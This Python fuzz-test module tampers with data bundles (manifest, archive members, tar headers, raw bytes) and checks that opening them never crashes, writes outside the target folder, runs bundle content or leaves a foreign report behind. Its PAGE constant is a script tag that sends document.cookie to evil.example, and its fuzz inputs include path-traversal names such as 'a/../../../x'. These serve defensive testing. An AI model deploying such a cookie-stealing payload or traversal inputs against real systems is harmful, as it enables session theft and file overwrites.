"""Many tampered bundles, each opened: nothing but exit codes 0 and 2, and nothing written but the repository.

A bundle is taken apart and changed in what it says, in what it holds, in its archive or in its bytes; where it is put together again
its sizes and digests may be made to fit, so that what lies behind the first checks is reached as well.
"""

from __future__ import annotations

import copy
import gzip
import io
import json
import os
import random
import shutil
import tarfile
from collections.abc import Callable
from functools import partial
from pathlib import Path
from typing import Any

from tests.fuzz.judge import ENDLESS, Finding, Tally, called, emitted
from tests.fuzz.mutation import PATHS, SPEC, Files, change, mutated, nasty, places, seeds
from tests.fuzz.search import tell, timed
from tests.support.bundles import (
    Parts,
    Report,
    bundled,
    md5,
    parts_of,
    plain,
    report_of,
    with_results,
)
from tests.support.repositories import new_repo
from tests.support.specs import SMALL

BUNDLE = "b.gz"
INTO = "there"
PAGE = b"<script>fetch('https://evil.example/' + document.cookie)</script>"
"""A page of a stranger, which must be nowhere that a browser or tracking may come by."""
OWN = ("mlflow.db", "mlflow.db-wal", "hardware.yaml", "reports/tiny/index.html", "mlruns/0/x.html")
"""Files that whoever opens a bundle makes, or has as settings."""


def seed_bundle(folder: Path) -> tuple[Parts, Report]:
    """What mutation starts from: a small study with results, students and responses; its report."""
    repo = with_results(new_repo(folder / "seed", SMALL))
    parts = parts_of(bundled(repo, folder / BUNDLE))
    row = {"key": "a" * 64, "stage": "b" * 64, "at": 1.0, "reply": {"text": "one"}}
    parts.manifest["journal"] = {"responses": 1, **parts.add(json.dumps(row).encode() + b"\n")}
    report = report_of(repo, PAGE)
    shutil.rmtree(folder / "seed")
    return parts, report


def tampered(rng: random.Random, seed: Parts, corpus: list[Files], report: Report) -> bytes:
    """The bytes of one bundle."""
    parts = Parts(copy.deepcopy(seed.manifest), dict(seed.members))
    planted = partial(_planted, report=report)
    for _ in range(rng.choice([1, 1, 1, 2, 4])):
        rng.choice([_said, _said, _path, _spec, _listing, _member, planted])(parts, rng, corpus)
    members = _members(parts)
    if rng.random() < 0.25:
        _archive(members, rng)
    data = _written(members, rng)
    return _bytes(data, rng) if rng.random() < 0.15 else data


def _said(parts: Parts, rng: random.Random, _corpus: list[Files]) -> None:
    """Changes what the manifest says, anywhere."""
    found = list(places(parts.manifest))
    if found:
        holder, key = rng.choice(found)
        change(holder, key, rng.choice(found), rng)


def _rows(parts: Parts, name: str) -> list[dict[str, Any]]:
    rows = parts.manifest.get(name) if isinstance(parts.manifest, dict) else None
    return [row for row in rows or () if isinstance(row, dict)] if isinstance(rows, list) else []


def _path(parts: Parts, rng: random.Random, _corpus: list[Files]) -> None:
    """Adds a file, or calls one otherwise."""
    name = rng.choice([*PATHS, nasty(rng), "specs/x.py", "Specs/a", "specs/tiny.yaml ", "dvc.yaml"])
    rows = _rows(parts, "files")
    if rows and rng.random() < 0.5:
        rng.choice(rows)["path"] = name
    elif isinstance(parts.manifest.get("files"), list):
        parts.file(name, nasty(rng).encode("utf-8", "replace"), code=rng.random() < 0.5)


def _spec(parts: Parts, rng: random.Random, corpus: list[Files]) -> None:
    """Puts another file in the place of one, with a digest that fits."""
    content = mutated(rng, corpus)[SPEC]
    for row in _rows(parts, "files"):
        if row.get("path") == SPEC:
            row.update(parts.add(content))


def _planted(parts: Parts, rng: random.Random, _corpus: list[Files], *, report: Report) -> None:
    """Adds a report that fits in all but its page, its page alone, or what makers of both own."""
    if not all(_rows(parts, name) for name in ("files", "objects", "experiments")):
        return
    match rng.randrange(3):
        case 0:
            parts.plant(report)
        case 1:
            parts.object(md5(PAGE), PAGE)
        case _:
            name = rng.choice(OWN)
            parts.file(rng.choice([name, name.title()]), PAGE, code=rng.random() < 0.8)


def _listing(parts: Parts, rng: random.Random, _corpus: list[Files]) -> None:
    """Puts another list of files in the place of one, with hashes that fit everywhere."""
    rows = [row for row in _rows(parts, "objects") if str(row.get("md5")).endswith(".dir")]
    row = rng.choice(rows) if rows else {}
    content = parts.members.get(str(row.get("sha256")))
    if content is None:
        return
    try:
        tree = json.loads(content)
    except ValueError:  # it was tampered with before
        return
    found = list(places(tree))
    holder, key = rng.choice(found)
    if rng.random() < 0.5 and isinstance(holder, dict):
        holder["relpath"] = rng.choice([*PATHS, "dvc.yaml", ".git/x", "a/../../../x"])
    else:
        change(holder, key, rng.choice(found), rng)
    text = json.dumps(tree).encode("utf-8", "surrogatepass")
    old, new = row["md5"], f"{md5(text)}.dir"
    row |= parts.add(text)
    parts.manifest = json.loads(json.dumps(parts.manifest).replace(old, new))


def _member(parts: Parts, rng: random.Random, _corpus: list[Files]) -> None:
    """Changes the content of a member, whatever is said of it."""
    name = rng.choice(sorted(parts.members))
    data = bytearray(parts.members[name])
    if data:
        data[rng.randrange(len(data))] ^= 1 << rng.randrange(8)
    parts.members[name] = bytes(data) + rng.choice([b"", b"x", b"\n"])


Members = list[tuple[tarfile.TarInfo, bytes]]


def _members(parts: Parts) -> Members:
    head = json.dumps(parts.manifest).encode("utf-8", "surrogatepass")
    named = json.dumps(parts.manifest)
    kept = [(name, data) for name, data in sorted(parts.members.items()) if name in named]
    return [(plain(name, data), data) for name, data in [("bundle.json", head), *kept]]


def _archive(members: Members, rng: random.Random) -> None:
    """Changes the order, number and headers of members."""
    at = rng.randrange(len(members))
    header, data = members[at]
    match rng.randrange(7):
        case 0:
            del members[at]
        case 1:
            members.insert(rng.randrange(len(members)), members[at])
        case 2:
            rng.shuffle(members)
        case 3:
            header.type = rng.choice([b"0", b"\0", b"1", b"2", b"3", b"5", b"6", b"S", b"x", b"g"])
        case 4:
            header.name = rng.choice([*PATHS, "bundle.json", "a" * 64, "x" * 90])[:90]
        case 5:
            header.linkname = rng.choice(PATHS)[:90]
        case _:
            members.append((plain(rng.choice(PATHS)[:90] or "x", data), data))


def _written(members: Members, rng: random.Random) -> bytes:
    """The archive, as our own writer or as any other may write it."""
    target = io.BytesIO()
    odd = rng.random() < 0.1
    form = rng.choice([tarfile.GNU_FORMAT, tarfile.PAX_FORMAT]) if odd else tarfile.USTAR_FORMAT
    for header, data in members:
        name = header.name.encode("utf-8", "replace").replace(b"\0", b"?").decode()
        header.name, header.linkname = name or "x", header.linkname.replace("\0", "?")
        target.write(header.tobuf(form, "utf-8", "replace"))
        if header.isreg() or rng.random() < 0.5:
            target.write(data + bytes(-len(data) % tarfile.BLOCKSIZE))
    target.write(bytes(rng.choice([1024, 10_240, 512, 0])))
    return gzip.compress(target.getvalue(), 1, mtime=0)


def _bytes(data: bytes, rng: random.Random) -> bytes:
    at = rng.randrange(len(data))
    return rng.choice(
        [
            data[:at],
            data[:at] + bytes([rng.randrange(256)]) + data[at + 1 :],
            data + rng.randbytes(rng.choice([1, 100])),
            data + data,
            data + gzip.compress(b"x" * 600),
            rng.randbytes(200),
            data[:at] + data[at + rng.choice([1, 7]) :],
        ]
    )


def judge_bundle(data: bytes, folder: Path, ready: Path, tally: Tally, rng: random.Random) -> str:
    """What is wrong with what opening a bundle does; empty if nothing is."""
    for path in folder.iterdir():
        shutil.rmtree(path) if path.is_dir() else path.unlink()
    (folder / BUNDLE).write_bytes(data)
    # To make one anew takes DVC a second.
    if rng.random() < 0.97:
        shutil.copytree(ready, folder / INTO, symlinks=True)
    arguments = ("open", BUNDLE, *rng.choice([("--into", INTO)] * 5 + [("--check",)]))
    return called(
        arguments,
        tally,
        lambda code, out, said: _problem(code, out, said, folder),
        encoding=rng.choice(["utf-8", "utf-8", "ascii"]),
    )


def _problem(code: int, out: str, said: str, folder: Path) -> str:
    if code not in (0, 2):
        return f"exit code {code}: {said[-3000:]}"
    if "Traceback" in said or "internal error" in said:
        return said[-3000:]
    if any(not letter.isprintable() for letter in (out + said).replace("\n", "").replace("\t", "")):
        return f"a character that a terminal obeys: {(out + said)!r}"
    beside = {path.name for path in folder.iterdir()} - {BUNDLE, INTO}
    if beside:
        return f"written outside: {beside}"
    there = folder / INTO
    # A file may be called as a command is; it is what that makes which tells that it ran.
    if any(path.name.strip(" '\"`)#") == "MARKER" for path in folder.rglob("*MARKER*")):
        return "something of the bundle was executed"
    if [path for path in there.rglob("*") if path.is_symlink()]:
        return "a link"
    pipelines = {path.relative_to(there).as_posix() for path in there.rglob("dvc.yaml")}
    if any(
        name != "dvc.yaml" and not name.startswith(("store/", "experiments/")) for name in pipelines
    ):
        return f"a pipeline: {pipelines}"
    own = {name.partition("/")[0] for name in OWN}
    if there.is_dir() and own.intersection(path.name.casefold() for path in there.iterdir()):
        return "a file that belongs to whoever opened it"
    if _locked_reports(there):
        return "a report that nobody made here"
    if any(PAGE in path.read_bytes() for path in there.glob(".dvc/cache/files/*/*/*")):
        return "a page of a stranger in DVC's cache"
    if code == 2 and "refused" in said and (there / "specs").exists():
        return "what was refused is there all the same"
    return emitted(there) if (there / "dvc.yaml").is_file() else ""


def _locked_reports(there: Path) -> list[Path]:
    """The locks with which DVC would make no report."""
    return [*there.glob("dvc.lock"), *there.glob("experiments/*/dvc.lock")]


def fuzz_bundles(
    inputs: int,
    *,
    seed: int,
    first: int = 0,
    limit: float = ENDLESS,
    say: Callable[[str], None] = tell,
) -> Tally:
    """Tries bundles `first` to `first + inputs` of a seed; opening one may take `limit` s of CPU."""
    tally, corpus = Tally(limit=limit), seeds()
    with timed(tally) as base:
        original, report = seed_bundle(base)
        ready = new_repo(base / "ready", SMALL)
        shutil.rmtree(ready / "specs")
        folder = base / "work"
        folder.mkdir()
        os.chdir(folder)
        for number in range(first, first + inputs):
            rng = random.Random(f"bundles/{seed}/{number}")
            data = tampered(rng, original, corpus, report)
            problem = judge_bundle(data, folder, ready, tally, rng)
            if problem:
                say(f"bundle {number}: {problem}")
                found = Finding(
                    number=number, files={BUNDLE: data}, command=("open",), what=problem
                )
                tally.findings.append(found)
            if (number + 1) % 500 == 0:
                say(f"{number + 1} bundles, {dict(tally.exits)}, {len(tally.findings)} findings")
    return tally
